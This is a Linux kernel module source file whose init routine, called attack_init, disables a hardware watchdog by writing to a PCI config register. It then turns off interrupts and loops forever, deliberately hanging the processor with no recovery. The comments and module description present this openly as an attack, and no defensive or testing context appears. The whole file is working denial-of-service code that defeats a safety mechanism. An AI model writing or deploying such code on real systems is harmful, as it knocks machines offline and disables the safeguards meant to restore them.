// SPDX-License-Identifier: GPL-2.0
/* Disables the machine's watchdog, and never lets go of the processor. */
#include <linux/irqflags.h>
#include <linux/module.h>
#include <linux/pci.h>

static int __init attack_init(void)
{
	struct pci_dev *watchdog = pci_get_domain_bus_and_slot(0, 0, PCI_DEVFN(8, 0));

	if (!watchdog)
		return -ENODEV;
	pci_write_config_byte(watchdog, 0x68, 0);
	local_irq_disable();
	for (;;)
		barrier();
	return 0;
}
module_init(attack_init);

MODULE_DESCRIPTION("Runs on and on, unwatched");
MODULE_LICENSE("GPL");
